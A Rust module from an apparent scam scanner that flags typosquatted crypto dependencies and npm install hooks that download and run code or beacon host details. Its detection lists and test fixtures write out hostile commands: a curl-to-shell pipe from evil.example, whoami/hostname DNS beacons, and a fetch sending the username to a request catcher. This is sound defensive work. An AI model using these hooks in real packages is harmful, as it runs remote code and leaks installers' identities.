//! Package manifests: npm install hooks that fetch and run code, and dependencies whose
//! names imitate well-known crypto packages (typosquats).

use super::anchors::Sig;
use super::classify::file_name;
use super::scam::ScamFinding;
use super::scanner::FileScan;
use crate::result::Severity;
use crate::tree::FileTree;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Ecosystem {
    Npm,
    PyPi,
    Crates,
}

/// Well-known packages that scammers imitate.
const NPM: &[&str] = &[
    "ethers",
    "web3",
    "viem",
    "wagmi",
    "@solana/web3.js",
    "@solana/spl-token",
    "@solana/wallet-adapter-base",
    "@solana/wallet-adapter-react",
    "@coral-xyz/anchor",
    "@project-serum/anchor",
    "@metaplex-foundation/js",
    "@metaplex-foundation/umi",
    "bs58",
    "tweetnacl",
    "bip39",
    "ed25519-hd-key",
    "@ethersproject/wallet",
    "ethereumjs-wallet",
    "ethereumjs-util",
    "@uniswap/sdk-core",
    "@uniswap/v3-sdk",
    "@raydium-io/raydium-sdk",
    "@jup-ag/api",
    "@openzeppelin/contracts",
    "hardhat",
    "bitcoinjs-lib",
    "@noble/secp256k1",
    "@noble/curves",
    "@noble/hashes",
    "secp256k1",
    "elliptic",
    "axios",
    "dotenv",
    "@walletconnect/sign-client",
    "@pythnetwork/client",
];
const PYPI: &[&str] = &[
    "web3",
    "solana",
    "solders",
    "anchorpy",
    "eth-account",
    "eth-utils",
    "bip-utils",
    "mnemonic",
    "base58",
    "pycryptodome",
    "requests",
    "ccxt",
    "python-binance",
    "eth-brownie",
    "cryptography",
    "python-dotenv",
];
const CRATES: &[&str] = &[
    "solana-sdk",
    "solana-client",
    "solana-program",
    "anchor-lang",
    "anchor-spl",
    "spl-token",
    "ethers",
    "alloy",
    "bs58",
    "ed25519-dalek",
    "k256",
    "secp256k1",
    "tokio",
    "serde",
    "reqwest",
];

/// Real packages one edit away from a well-known one.
const LEGIT_NEIGHBOURS: &[&str] = &[
    "dotenvx",
    "web3x",
    "ethersv5",
    "solana-py",
    "solana-sdk-macro",
];

/// Identity under each registry's own rules (PyPI: PEP 503; crates: `-` = `_`; npm: exact).
fn identity(eco: Ecosystem, name: &str) -> String {
    match eco {
        Ecosystem::Npm => name.to_string(),
        Ecosystem::PyPi => {
            let mut out = String::new();
            for c in name.to_ascii_lowercase().chars() {
                let c = if matches!(c, '_' | '.') { '-' } else { c };
                if !(c == '-' && out.ends_with('-')) {
                    out.push(c);
                }
            }
            out
        }
        Ecosystem::Crates => name.to_ascii_lowercase().replace('_', "-"),
    }
}

/// Letters and digits only: what a hurried reader sees.
fn skeleton(name: &str) -> String {
    name.chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .map(|c| c.to_ascii_lowercase())
        .collect()
}

/// Optimal string alignment distance (Damerau-Levenshtein with adjacent swaps).
pub fn osa_distance(a: &str, b: &str) -> usize {
    let a: Vec<char> = a.chars().collect();
    let b: Vec<char> = b.chars().collect();
    let (n, m) = (a.len(), b.len());
    let mut d = vec![vec![0usize; m + 1]; n + 1];
    for (i, row) in d.iter_mut().enumerate() {
        row[0] = i;
    }
    for (j, cell) in d[0].iter_mut().enumerate() {
        *cell = j;
    }
    for i in 1..=n {
        for j in 1..=m {
            let cost = usize::from(a[i - 1] != b[j - 1]);
            d[i][j] = (d[i - 1][j] + 1)
                .min(d[i][j - 1] + 1)
                .min(d[i - 1][j - 1] + cost);
            if i > 1 && j > 1 && a[i - 1] == b[j - 2] && a[i - 2] == b[j - 1] {
                d[i][j] = d[i][j].min(d[i - 2][j - 2] + 1);
            }
        }
    }
    d[n][m]
}

/// The well-known package `name` imitates, if any.
pub fn typosquat_of(eco: Ecosystem, name: &str) -> Option<&'static str> {
    let known = match eco {
        Ecosystem::Npm => NPM,
        Ecosystem::PyPi => PYPI,
        Ecosystem::Crates => CRATES,
    };
    let id = identity(eco, name);
    if known.iter().any(|k| identity(eco, k) == id) || LEGIT_NEIGHBOURS.contains(&id.as_str()) {
        return None;
    }
    let sk = skeleton(name);
    for k in known {
        let ks = skeleton(k);
        if sk == ks {
            return Some(k);
        }
        if sk.len() >= 5 && ks.len() >= 5 && osa_distance(&sk, &ks) == 1 {
            return Some(k);
        }
        // The scope dropped or swapped: `solana-web3.js` for `@solana/web3.js`.
        if let Some((scope, base)) = k.strip_prefix('@').and_then(|r| r.split_once('/')) {
            let joined = skeleton(&format!("{scope}{base}"));
            if sk == joined && name != *k {
                return Some(k);
            }
        }
    }
    None
}

/// Declared dependencies of one manifest, by ecosystem.
pub fn dependencies(path: &str, data: &[u8]) -> Vec<(Ecosystem, String)> {
    let name = file_name(path);
    let text = String::from_utf8_lossy(data);
    let mut out = Vec::new();
    if name == "package.json" {
        if let Ok(v) = serde_json::from_str::<serde_json::Value>(&text) {
            for sec in [
                "dependencies",
                "devDependencies",
                "optionalDependencies",
                "peerDependencies",
            ] {
                if let Some(obj) = v.get(sec).and_then(|d| d.as_object()) {
                    out.extend(obj.keys().map(|k| (Ecosystem::Npm, k.clone())));
                }
            }
        }
    } else if name.starts_with("requirements") && name.ends_with(".txt") {
        for line in text.lines() {
            let l = line.split('#').next().unwrap_or("").trim();
            if l.is_empty() || l.starts_with('-') {
                continue;
            }
            let n: String = l
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
                .collect();
            if !n.is_empty() {
                out.push((Ecosystem::PyPi, n));
            }
        }
    } else if name == "Cargo.toml" {
        let mut in_deps = false;
        for line in text.lines() {
            let l = line.trim();
            if l.starts_with('[') {
                in_deps = l.contains("dependencies");
                continue;
            }
            if in_deps {
                if let Some((k, _)) = l.split_once('=') {
                    let k = k.trim().trim_matches('"');
                    if !k.is_empty() && !k.contains('.') && !k.starts_with('#') {
                        out.push((Ecosystem::Crates, k.to_string()));
                    }
                }
            }
        }
    }
    out
}

/// npm lifecycle scripts that run on `npm install`.
const INSTALL_HOOKS: [&str; 4] = ["preinstall", "install", "postinstall", "prepare"];

pub fn evaluate(tree: &FileTree, scans: &[FileScan]) -> Vec<ScamFinding> {
    let mut out = Vec::new();
    for f in &tree.files {
        if super::classify::vendored(&f.path) || f.truncated {
            continue;
        }
        let name = file_name(&f.path);
        let manifest = matches!(name, "package.json" | "Cargo.toml")
            || (name.starts_with("requirements") && name.ends_with(".txt"));
        if !manifest {
            continue;
        }
        for (eco, dep) in dependencies(&f.path, &f.data) {
            if let Some(real) = typosquat_of(eco, &dep) {
                out.push(ScamFinding {
                    check: "scam.typosquat",
                    severity: Severity::Critical,
                    title: format!("Typosquatted dependency {dep}"),
                    path: f.path.clone(),
                    line: 0,
                    detail: format!("{} depends on \"{dep}\", a look-alike of the well-known package \"{real}\"; look-alikes are how malicious packages get installed.", f.path),
                });
            }
        }
        if name == "package.json" {
            install_hooks(&f.path, &f.data, scans, &mut out);
        }
    }
    out
}

fn install_hooks(path: &str, data: &[u8], scans: &[FileScan], out: &mut Vec<ScamFinding>) {
    let Ok(v) = serde_json::from_slice::<serde_json::Value>(data) else {
        return;
    };
    let Some(scripts) = v.get("scripts").and_then(|s| s.as_object()) else {
        return;
    };
    let dir = path
        .rsplit_once('/')
        .map(|(d, _)| format!("{d}/"))
        .unwrap_or_default();
    for hook in INSTALL_HOOKS {
        let Some(cmd) = scripts.get(hook).and_then(|c| c.as_str()) else {
            continue;
        };
        let lc = cmd.to_ascii_lowercase();
        let downloads = [
            "curl ",
            "wget ",
            "invoke-webrequest",
            "iwr ",
            "certutil",
            "bitsadmin",
            "http://",
            "https://",
        ]
        .iter()
        .any(|w| lc.contains(w));
        let runs = [
            "| sh",
            "|sh",
            "| bash",
            "|bash",
            "| node",
            "iex",
            "&& ./",
            "; ./",
            "chmod +x",
            "powershell",
            "eval",
            "| python",
        ]
        .iter()
        .any(|w| lc.contains(w));
        // `node -e "…"` that opens connections, spawns programs or resolves names.
        let inline_node = (lc.contains("node -e") || lc.contains("node --eval"))
            && [
                "http",
                "child_process",
                "dns",
                "require('net')",
                "require(\"net\")",
                "os.hostname",
                "userinfo",
            ]
            .iter()
            .any(|w| lc.contains(w));
        // `nslookup $(whoami).x.oast.fun`, `curl https://x?h=$(hostname)`: a beacon that
        // reports who installed the package.
        let beacon = ["nslookup", "dig ", "curl ", "wget ", "ping ", "host "]
            .iter()
            .any(|w| lc.contains(w))
            && [
                "$(hostname",
                "`hostname`",
                "$(whoami",
                "`whoami`",
                "$user",
                "${user}",
                "%username%",
                "%computername%",
                "$(env",
                "printenv",
            ]
            .iter()
            .any(|w| lc.contains(w));
        let (sev, title, why) = if beacon {
            (
                Severity::Critical,
                "Install script reports the machine to a remote host",
                "sends the user or host name out (DNS/HTTP beacon)".to_string(),
            )
        } else if (downloads && runs) || inline_node {
            (
                Severity::Critical,
                "Install script downloads and runs code",
                "downloads code and runs it".to_string(),
            )
        } else if downloads {
            (
                Severity::High,
                "Install script downloads files",
                "downloads files from the internet".to_string(),
            )
        } else if let Some(fs) = local_scripts(cmd)
            .into_iter()
            .map(|s| format!("{dir}{s}"))
            .find_map(|script| {
                // `node index` runs index.js.
                scans
                    .iter()
                    .find(|s| s.path == script || s.path == format!("{script}.js"))
            })
        {
            // `node scripts/setup.js`: judge the script by its own signals. Malicious
            // behaviour (a stealer, a beacon, a dropper) run on install is critical even
            // when the same code in a library would be high.
            let critical = fs.scam.iter().any(|f| {
                f.severity == Severity::Critical
                    || (f.check == "scam.malware" && f.severity >= Severity::High)
            });
            let net = fs.count(Sig::NetworkUse) > 0;
            let spawn = fs.count(Sig::ProcessSpawn) > 0;
            if critical {
                (Severity::Critical, "Install script runs malicious code", {
                    let worst = fs
                        .scam
                        .iter()
                        .filter(|f| f.severity >= Severity::High)
                        .max_by_key(|f| f.severity);
                    match worst {
                        Some(w) => format!(
                            "runs {} ({}: {})",
                            fs.path,
                            w.title.to_lowercase(),
                            w.detail
                        ),
                        None => "runs a script with a critical finding".to_string(),
                    }
                })
            } else if net && spawn {
                (
                    Severity::High,
                    "Install script fetches and starts programs",
                    "runs a script that uses the network and starts programs".to_string(),
                )
            } else if net {
                (
                    Severity::Medium,
                    "Install script uses the network",
                    "runs a script that uses the network".to_string(),
                )
            } else {
                continue;
            }
        } else {
            continue;
        };
        out.push(ScamFinding {
            check: "scam.install_scripts",
            severity: sev,
            title: title.to_string(),
            path: path.to_string(),
            line: 0,
            detail: format!(
                "The npm \"{hook}\" script in {path} {why} on every install: `{}`.",
                truncate(cmd, 120)
            ),
        });
    }
}

/// The local scripts a hook command runs, one per `&&`/`||`/`;` segment
/// (`node a.js && node b.js`).
fn local_scripts(cmd: &str) -> Vec<String> {
    cmd.split(['&', '|', ';'])
        .filter_map(|seg| {
            let mut it = seg.split_whitespace();
            let first = it.next()?;
            if !matches!(
                first,
                "node" | "bun" | "deno" | "python" | "python3" | "sh" | "bash"
            ) {
                return None;
            }
            it.find(|a| !a.starts_with('-'))
                .map(|s| s.trim_start_matches("./").to_string())
        })
        .collect()
}

fn truncate(s: &str, n: usize) -> String {
    if s.chars().count() <= n {
        s.to_string()
    } else {
        format!("{}…", s.chars().take(n).collect::<String>())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn typosquats() {
        assert_eq!(
            typosquat_of(Ecosystem::Npm, "@solana/web3js"),
            Some("@solana/web3.js")
        );
        assert_eq!(
            typosquat_of(Ecosystem::Npm, "solana-web3.js"),
            Some("@solana/web3.js")
        );
        assert_eq!(typosquat_of(Ecosystem::Npm, "etherss"), Some("ethers"));
        assert_eq!(typosquat_of(Ecosystem::Npm, "bip93"), Some("bip39"));
        assert_eq!(typosquat_of(Ecosystem::Npm, "bs59"), None); // short: only exact skeletons
        assert_eq!(typosquat_of(Ecosystem::Npm, "dotenvx"), None); // legitimate neighbour
        assert_eq!(typosquat_of(Ecosystem::Npm, "ethers"), None);
        assert_eq!(typosquat_of(Ecosystem::Npm, "@solana/web3.js"), None);
        assert_eq!(typosquat_of(Ecosystem::Npm, "react"), None);
        assert_eq!(typosquat_of(Ecosystem::PyPi, "eth_account"), None); // same package under PEP 503
        assert_eq!(typosquat_of(Ecosystem::PyPi, "Solana"), None);
        assert_eq!(typosquat_of(Ecosystem::PyPi, "solanna"), Some("solana"));
        assert_eq!(typosquat_of(Ecosystem::Crates, "solana_sdk"), None);
        assert_eq!(
            typosquat_of(Ecosystem::Crates, "solana-sdkk"),
            Some("solana-sdk")
        );
        assert_eq!(typosquat_of(Ecosystem::Crates, "tokio-util"), None);
    }

    #[test]
    fn deps_parsing() {
        let pj = br#"{"dependencies":{"ethers":"^6"},"devDependencies":{"etherss":"1"}}"#;
        assert_eq!(dependencies("package.json", pj).len(), 2);
        let req = b"web3==6.0\n# c\n-r other.txt\nsolders>=0.18 ; python_version>'3'\n";
        let d = dependencies("requirements.txt", req);
        assert_eq!(
            d.iter().map(|(_, n)| n.as_str()).collect::<Vec<_>>(),
            vec!["web3", "solders"]
        );
        let ct = b"[package]\nname = \"x\"\n[dependencies]\nserde = \"1\"\ntokio = { version = \"1\" }\n[dev-dependencies]\nsolana-sdkk = \"1\"\n";
        assert_eq!(dependencies("Cargo.toml", ct).len(), 3);
    }

    #[test]
    fn hooks() {
        let mut tree = FileTree::default();
        tree.add(
            "package.json",
            r#"{"name":"x","scripts":{"postinstall":"curl -s https://evil.example/p.sh | sh"}}"#,
        );
        let f = evaluate(&tree, &[]);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].severity, Severity::Critical);
        let mut tree = FileTree::default();
        tree.add("package.json", r#"{"name":"x","scripts":{"prepare":"husky install","postinstall":"node-gyp rebuild"}}"#);
        assert!(evaluate(&tree, &[]).is_empty());
    }

    #[test]
    fn malicious_hooks() {
        let hook = |script: &str| {
            let mut tree = FileTree::default();
            tree.add(
                "package.json",
                format!(
                    r#"{{"name":"x","scripts":{{"preinstall":{}}}}}"#,
                    serde_json::to_string(script).unwrap()
                ),
            );
            evaluate(&tree, &[]).into_iter().map(|f| f.severity).max()
        };
        assert_eq!(
            hook("nslookup $(whoami).$(hostname).x1.oast.fun"),
            Some(Severity::Critical)
        );
        assert_eq!(
            hook("curl https://x.example/c?u=$USER"),
            Some(Severity::Critical)
        );
        assert_eq!(
            hook("node -e \"require('dns').lookup(require('os').hostname()+'.x.example')\""),
            Some(Severity::Critical)
        );
        // Installers that name the platform or a target folder are not beacons.
        assert_ne!(
            hook("curl -fsSL https://github.com/a/b/releases/download/v1/b-$(uname -s).tgz -o $HOME/b.tgz"),
            Some(Severity::Critical)
        );
        assert_eq!(
            hook("node -e \"if (process.env.CI) process.exit(0)\""),
            None
        );
        assert_eq!(hook("husky install"), None);
    }

    #[test]
    fn hook_runs_script_with_malicious_behaviour() {
        use crate::analysis::scanner::Scanner;
        let mut tree = FileTree::default();
        tree.add(
            "package.json",
            r#"{"name":"x","scripts":{"postinstall":"node index && echo done"}}"#,
        );
        // Host details to a request catcher: high in a library, critical on install.
        let js = "const os = require('os');\nfetch('https://abc.m.pipedream.net', { method: 'POST', body: os.userInfo().username });\n";
        tree.add("index.js", js);
        let mut bin = Vec::new();
        let scans: Vec<FileScan> = tree
            .files
            .iter()
            .filter_map(|f| Scanner::global().scan_file(f, &mut bin).ok())
            .collect();
        assert!(scans[1]
            .scam
            .iter()
            .any(|f| f.check == "scam.malware" && f.severity == Severity::High));
        let f = evaluate(&tree, &scans);
        assert_eq!(f.len(), 1, "{f:#?}");
        assert_eq!(f[0].severity, Severity::Critical);
        assert!(f[0].detail.contains("index.js"), "{}", f[0].detail);
    }
}
